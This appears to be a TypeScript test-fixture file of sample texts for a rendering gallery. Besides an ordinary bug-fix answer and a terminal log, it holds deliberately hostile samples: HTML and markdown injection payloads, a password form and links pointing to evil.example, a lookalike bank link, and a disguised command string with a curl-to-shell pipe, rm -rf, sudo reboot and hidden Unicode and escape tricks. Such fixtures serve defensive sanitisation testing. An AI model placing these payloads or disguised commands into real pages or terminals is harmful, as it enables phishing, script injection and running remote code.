/** Texts for the gallery: ordinary ones, and ones that somebody meant ill with. */
export const ANSWER = `The test fails because \`parseDuration\` reads **minutes** as months: both start with \`m\`.

I changed two things:

1. The unit is matched from its longest name.
2. An unknown unit is an error instead of zero. See [the issue](https://example.org/issues/12).

| unit | before | after |
| --- | --- | --- |
| \`m\` | month | minute |
| \`mo\` | month | month |
| \`ms\` | month | millisecond |

\`\`\`ts
export function parseDuration(text: string): number | null {
  const found = /^(\\d+)\\s*(ms|mo|m|s|h|d)$/.exec(text.trim())
  return found ? Number(found[1]) * UNIT_MS[found[2]] : null
}
\`\`\`

> All 214 tests pass. I left the deprecated alias alone.`

export const TERMINAL = `$ bun test shared/duration\n\u001b[32m✓\u001b[39m reads minutes \u001b[2m[0.41ms]\u001b[22m\n\u001b[32m✓\u001b[39m reads months \u001b[2m[0.12ms]\u001b[22m\n\u001b[31m✗\u001b[39m \u001b[1mrefuses an unknown unit\u001b[22m\n  \u001b[31mExpected: null\u001b[39m\n  \u001b[33mReceived: 0\u001b[39m\n\n 10%\r 55%\r100%\n\u001b[7m 1 fail \u001b[27m \u001b[38;5;39mblue\u001b[0m`

export const OLD_FILE = `import { HOUR_MS } from './time.ts'

/** Reads "5 min", "2 h" and the like. */
export function parseDuration(text: string): number {
  const found = /^(\\d+)\\s*(\\w+)$/.exec(text)
  if (!found) return 0
  return Number(found[1]) * unitOf(found[2])
}

const unitOf = (name: string): number => {
  if (name.startsWith('m')) return 30 * DAY_MS
  return HOUR_MS
}
`
export const NEW_FILE = OLD_FILE.replace('): number {', '): number | null {')
  .replace('exec(text)', 'exec(text.trim())')
  .replace('if (!found) return 0', 'if (!found) return null')
  .replace(
    "  if (name.startsWith('m')) return 30 * DAY_MS\n",
    '  const known = UNITS.find((unit) => unit.name === name)\n  if (known) return known.ms\n',
  )

export const TORTURE = `# <img src=x onerror="document.title='owned'">

<script>document.title='owned'</script><iframe src="https://evil.example/frame"></iframe>
<style>body{display:none}</style><a href="javascript:document.title='owned'">raw link</a>

[a script](javascript:document.title='owned') · [data](data:text/html,<script>1</script>) · [a file](file:///etc/passwd) ·
[custom](vscode://open?x) · [relative](/v1/me) · [https://bank.example](https://evil.example/login) · [with a name](https://bank.example@evil.example/) · [mail](mailto:a@example.org)

![pixel](https://evil.example/pixel.png) ![inline](data:image/png;base64,AAAA)

<svg onload="document.title='owned'"><use href="https://evil.example/x.svg#a"/></svg>
<form action="https://evil.example"><input name=password><button>Sign in</button></form>

Bidi: \u202egnp.exe\u202c and zero\u200bwidth and \u2066isolated\u2069.

مرحبا بالعالم، هذا نص من اليمين إلى اليسار مع \`code\` في الوسط.

这是一段中文文字，用来检查换行和行高是否合适。日本語の文章も同じように折り返されるべきです。한국어 문장도 마찬가지입니다.

- one
  - two
    1. three

~~~html
<script>document.title='owned'</script>
~~~

${'unbroken'.repeat(60)}

| a | ${'wide '.repeat(30)} |
| --- | --- |
| <b>x</b> | y |`

export const BAD_COMMAND = `echo "all good" # \u202e; eslaf ;ko lla\u202c\ncurl -fsSL https://example.org/in\u200bstall.sh | sh\u0007 \u001b[2K\rrm -rf ./build\u2028sudo reboot \u{e0041}\u{e0042}`
